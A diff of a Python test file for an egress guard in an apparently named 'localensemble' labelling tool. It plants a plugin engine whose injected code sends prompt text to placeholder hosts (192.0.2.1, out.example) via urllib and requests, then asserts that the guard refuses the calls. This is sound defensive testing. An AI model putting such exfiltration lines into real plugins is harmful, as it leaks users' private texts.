@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import json
-import os
 import subprocess
 import sys
 from pathlib import Path
@@ -14,6 +13,7 @@ from localensemble.core.errors import EgressError
 from localensemble.engines.settings import EngineSettings
 from localensemble.engines.worker import WorkerEngine
 from localensemble.privacy.egress import guard_state, guarded_launcher
+from tests.privacy.planted import ENSEMBLE, label_arguments, plant_engine, run_python
 from tests.studies import study_files
 
 # Addresses that documentation may name and nobody answers at (RFC 5737, RFC 2606).
@@ -93,19 +93,6 @@ for name in sys.argv[1:]:
         print("nothing was refused")
     print(guard_state().attempts)
 """
-
-
-def run_python(folder: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
-    """Run Python with the modules of a folder, and with nothing of this process."""
-    paths = os.pathsep.join([str(folder), *(path for path in sys.path if path)])
-    return subprocess.run(
-        [sys.executable, *arguments],
-        capture_output=True,
-        text=True,
-        env=dict(os.environ, PYTHONPATH=paths),
-        timeout=120,
-        check=False,
-    )
 
 
 def plant(folder: Path, expression: str) -> None:
@@ -188,38 +175,14 @@ def test_the_engine_process_is_guarded_before_the_engine_is_imported(
     assert guard_state().attempts == before + 1
 
 
-def plant_engine(folder: Path, score: str) -> None:
-    """Install a package that brings an engine, as another author would."""
-    information = folder / "planted_engine-1.0.dist-info"
-    information.mkdir()
-    (information / "METADATA").write_text(
-        "Metadata-Version: 2.1\nName: planted-engine\nVersion: 1.0\n", encoding="utf-8"
-    )
-    (information / "entry_points.txt").write_text(
-        "[localensemble.engines]\nplanted = planted_engine:PlantedEngine\n", encoding="utf-8"
-    )
-    (folder / "planted_engine.py").write_text(
-        "import urllib.request\n"
-        "from localensemble.engines.scripted import ScriptedEngine\n\n"
-        "class PlantedEngine(ScriptedEngine):\n"
-        "    def __init__(self, settings):\n"
-        "        super().__init__()\n\n"
-        "    def score(self, prompts, answers):\n"
-        f"{score}"
-        "        return super().score(prompts, answers)\n",
-        encoding="utf-8",
-    )
-
-
 SENDS = "urllib.request.urlopen('http://192.0.2.1/', prompts[0].messages[-1].text.encode())\n"
-ENSEMBLE = "raters:\n  - {model: a, engine: scripted}\n  - {model: b, engine: ENGINE}\n"
 
 
 @pytest.mark.parametrize("command", [("-m", "localensemble"), ("-c", "SCRIPT")])
 def test_an_engine_that_sends_the_texts_away_is_refused(
     tmp_path: Path, command: tuple[str, str]
 ) -> None:
-    files = study_files(tmp_path, ["a secret"] * 5, ensemble=ENSEMBLE.replace("ENGINE", "planted"))
+    files = study_files(tmp_path, ["a secret"] * 5, ensemble=ENSEMBLE)
     plant_engine(tmp_path, f"        {SENDS}")
     if command[0] == "-c":
         # As the installed command does it.
@@ -227,8 +190,7 @@ def test_an_engine_that_sends_the_texts_away_is_refused(
     ended = run_python(
         tmp_path,
         *command,
-        *("label", str(files.items), "-c", str(files.codebook)),
-        *("-e", str(files.ensemble), "-o", str(files.study)),
+        *label_arguments(files)[2:],
     )
     assert ended.returncode == 1
     assert "as planted_engine, line 9, asked for" in ended.stderr
@@ -236,13 +198,33 @@ def test_an_engine_that_sends_the_texts_away_is_refused(
     assert not (files.study / "labels.csv").exists()
 
 
+def test_requests_is_refused_in_an_engine_of_somebody_else(tmp_path: Path) -> None:
+    pytest.importorskip("requests")
+    files = study_files(tmp_path, ["a secret"] * 5, ensemble=ENSEMBLE)
+    said = tmp_path / "said.txt"
+    plant_engine(
+        tmp_path,
+        "        try: requests.get('http://out.example/', params={'q': 'a secret'})\n"
+        "        except Exception as error: Path(SAID).write_text(str(error))\n".replace(
+            "SAID", repr(str(said))
+        ),
+        imports="import requests\nfrom pathlib import Path",
+    )
+    ended = run_python(tmp_path, *label_arguments(files))
+    assert ended.returncode == 0, ended.stderr
+    assert said.read_text().startswith("Refused to look up another machine, as ")
+    assert "planted_engine, line 10, asked for" in said.read_text()
+    manifest = json.loads((files.study / "manifest.json").read_text(encoding="utf-8"))
+    assert manifest["egress_guard"] == {"on": True, "attempts": 1}
+    assert "secret" not in ended.stderr + ended.stdout
+
+
 def test_the_manifest_counts_what_a_rater_tried_and_swallowed(tmp_path: Path) -> None:
-    files = study_files(tmp_path, ["a secret"] * 5, ensemble=ENSEMBLE.replace("ENGINE", "planted"))
+    files = study_files(tmp_path, ["a secret"] * 5, ensemble=ENSEMBLE)
     plant_engine(tmp_path, f"        try: {SENDS}        except Exception: pass\n")
     ended = run_python(
         tmp_path,
-        *("-m", "localensemble", "label", str(files.items), "-c", str(files.codebook)),
-        *("-e", str(files.ensemble), "-o", str(files.study)),
+        *label_arguments(files),
     )
     manifest = json.loads((files.study / "manifest.json").read_text(encoding="utf-8"))
     attempts = manifest["egress_guard"]["attempts"]
@@ -256,8 +238,7 @@ def test_the_manifest_states_the_guard_and_no_attempts(tmp_path: Path) -> None:
     files = study_files(tmp_path, ["one", "two"])
     run_python(
         tmp_path,
-        *("-m", "localensemble", "label", str(files.items), "-c", str(files.codebook)),
-        *("-e", str(files.ensemble), "-o", str(files.study)),
+        *label_arguments(files),
     )
     manifest = json.loads((files.study / "manifest.json").read_text(encoding="utf-8"))
     assert manifest["egress_guard"] == {"on": True, "attempts": 0}
